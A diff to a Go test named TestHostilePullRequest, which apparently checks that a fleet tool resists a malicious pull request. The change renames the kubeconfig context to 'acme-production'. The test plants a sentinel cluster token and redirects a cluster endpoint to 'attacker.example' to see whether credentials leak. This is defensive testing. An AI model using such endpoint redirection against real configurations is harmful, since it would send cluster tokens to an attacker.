@@ -210,7 +210,7 @@ func TestHostilePullRequest(t *testing.T) {
 		must(t, os.WriteFile(filepath.Join(bin, tool), []byte("#!/bin/sh\necho "+tool+" >>'"+filepath.Join(h.dir, "gh", "calls")+"'\necho SENTINEL-of-a-tool\n"), 0o755))
 	}
 	kubeconfig := filepath.Join(h.dir, "kubeconfig")
-	must(t, os.WriteFile(kubeconfig, fmt.Appendf(nil, `{"apiVersion":"v1","kind":"Config","current-context":"a","contexts":[{"name":"a","context":{"cluster":"a","user":"a"}}],
+	must(t, os.WriteFile(kubeconfig, fmt.Appendf(nil, `{"apiVersion":"v1","kind":"Config","current-context":"acme-production","contexts":[{"name":"acme-production","context":{"cluster":"a","user":"a"}}],
 "clusters":[{"name":"a","cluster":{"server":"https://%s"}}],"users":[{"name":"a","user":{"token":"SENTINEL-of-the-cluster"}}]}`, server.Addr()), 0o600))
 	h.edit("main.fleet.hcl", `"https://api.${env.name}.acme.dev:6443"`, fmt.Sprintf("%q", "https://attacker.example:"+strings.Split(server.Addr().String(), ":")[1]))
 	h.edit("fleets.fleet.hcl", "https://artifacts.acme.dev", "https://"+server.Addr().String())
